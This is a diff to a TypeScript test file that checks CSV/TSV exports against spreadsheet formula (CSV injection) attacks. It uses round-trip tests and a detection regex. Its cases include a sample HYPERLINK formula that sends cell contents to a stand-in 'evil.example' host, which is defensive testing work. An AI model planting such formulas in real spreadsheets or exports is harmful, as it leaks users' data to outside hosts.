@@ -5,8 +5,10 @@ import {
   exportFileName,
   importTermKey,
   parseDelimited,
+  neutralizeFormulas,
   parseImport,
   previewImport,
+  restoreFormulas,
   toDelimited,
   type ImportDelimiter,
 } from './portability';
@@ -31,8 +33,14 @@ const textOf = (schema: typeof termSchema, extra: fc.Arbitrary<string>) =>
     .map((chars) => chars.join(''))
     .filter((value) => value === normalizeSpaces(value) && schema.safeParse(value).success);
 
-const term = textOf(termSchema, fc.constant(','));
-const definition = textOf(definitionSchema, fc.constant(';'));
+/** Often starts like a formula (or with the user's own apostrophes before one). */
+const formulaLike = (schema: typeof termSchema, text: fc.Arbitrary<string>) =>
+  fc
+    .tuple(fc.constantFrom('', '', '=', '+', '-', '@', "'", "'=", "''-", '-@'), text)
+    .map(([start, rest]) => start + rest)
+    .filter((value) => value === normalizeSpaces(value) && schema.safeParse(value).success);
+const term = formulaLike(termSchema, textOf(termSchema, fc.constant(',')));
+const definition = formulaLike(definitionSchema, textOf(definitionSchema, fc.constant(';')));
 const word = fc.record({
   term,
   definitions: fc.uniqueArray(definition, { minLength: 1, maxLength: 10, selector: importTermKey }),
@@ -206,6 +214,114 @@ describe('the preview of each line', () => {
     });
     expect(preview.blocked).toBe(true);
   });
+});
+
+/** A place a spreadsheet may start a cell (also with another separator), then a formula character. */
+const FORMULA_CELL = /(?:^|[,;\t\r\n])[=+\-@\t\r]/;
+
+describe('cells a spreadsheet would run as formulas (CSV injection)', () => {
+  const cases: [string, string][] = [
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
+    ['+1', "'+1"],
+    ['-x', "'-x"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\r@x', "'\r'@x"],
+    ['-ing', "'-ing"],
+    ['@home', "'@home"],
+    ["'=x", "''=x"],
+    ["''-x", "'''-x"],
+    ["'", "'"],
+    ["'tis", "'tis"],
+    ["rock 'n' roll", "rock 'n' roll"],
+    ['well-known', 'well-known'],
+    ['e=mc2', 'e=mc2'],
+    ['x, -y; @z', 'x, -y; @z'],
+    ['a;=1+1', "a;'=1+1"],
+    ["a,-b;'+c", "a,'-b;''+c"],
+    ['', ''],
+  ];
+
+  it.each(cases)('writes %j as %j and reads it back', (original, written) => {
+    expect(neutralizeFormulas(original)).toBe(written);
+    expect(FORMULA_CELL.test(written)).toBe(false);
+    expect(restoreFormulas(written)).toBe(original);
+  });
+
+  it('neutralizes CSV and TSV exports and reads them back to the same words', () => {
+    const original = [
+      { term: '=HYPERLINK("http://evil.example/?"&A1,"click")', definitions: ['+1', '-x'] },
+      { term: '@SUM(1)', definitions: ["'=x", "'tis", 'a;=1+1'] },
+    ];
+    const csv = toDelimited(original);
+    expect(csv).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+1,'-x\r\n` + `'@SUM(1),''=x,'tis,a;'=1+1\r\n`,
+    );
+    expect(toDelimited([{ term: '\t-tab', definitions: ['@x'] }], '\t')).toBe(`"'\t'-tab"\t'@x\r\n`);
+    for (const delimiter of [',', ';', '\t'] as const) {
+      const text = `\uFEFF${toDelimited(original, delimiter)}`;
+      for (const { cells } of parseDelimited(text, delimiter)) {
+        for (const cell of cells) expect(FORMULA_CELL.test(cell)).toBe(false);
+      }
+      expect(parseImport(text, { format: 'delimited', delimiter }).entries).toEqual([
+        { line: 1, ...original[0] },
+        { line: 2, ...original[1] },
+      ]);
+    }
+  });
+
+  it('keeps the apostrophes of a file that did not come from us', () => {
+    expect(
+      parseImport("'tis,it is\n'n',and\n''quoted'',x", { format: 'delimited', delimiter: ',' }).entries,
+    ).toEqual([
+      { line: 1, term: "'tis", definitions: ['it is'] },
+      { line: 2, term: "'n'", definitions: ['and'] },
+      { line: 3, term: "''quoted''", definitions: ['x'] },
+    ]);
+  });
+
+  /** Any text, thick with the characters that matter here. */
+  const anyText = fc.oneof(
+    fc.string({
+      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', 'a', 'é', 'ї'),
+      maxLength: 12,
+    }),
+    fc.string({ unit: 'grapheme', maxLength: 12 }),
+    fc.string({ unit: 'binary', maxLength: 12 }),
+  );
+
+  it('reads back exactly what it wrote, for every string, and leaves no formula cell', () => {
+    fc.assert(
+      fc.property(anyText, (original) => {
+        const written = neutralizeFormulas(original);
+        expect(FORMULA_CELL.test(written)).toBe(false);
+        expect(restoreFormulas(written)).toBe(original);
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it.each<ImportDelimiter>([',', ';', '\t'])(
+    'round-trips records of any strings through a file with %j, cell for cell',
+    (delimiter) => {
+      const record = fc.record({
+        term: anyText,
+        definitions: fc.array(anyText, { minLength: 1, maxLength: 4 }),
+      });
+      fc.assert(
+        fc.property(fc.array(record, { minLength: 1, maxLength: 6 }), (original) => {
+          const records = parseDelimited(`\uFEFF${toDelimited(original, delimiter)}`, delimiter);
+          for (const { cells } of records) {
+            for (const cell of cells) expect(FORMULA_CELL.test(cell)).toBe(false);
+          }
+          expect(records.map(({ cells }) => cells.map(restoreFormulas))).toEqual(
+            original.map(({ term, definitions }) => [term, ...definitions]),
+          );
+        }),
+        { numRuns: 500 },
+      );
+    },
+  );
 });
 
 describe('writing', () => {
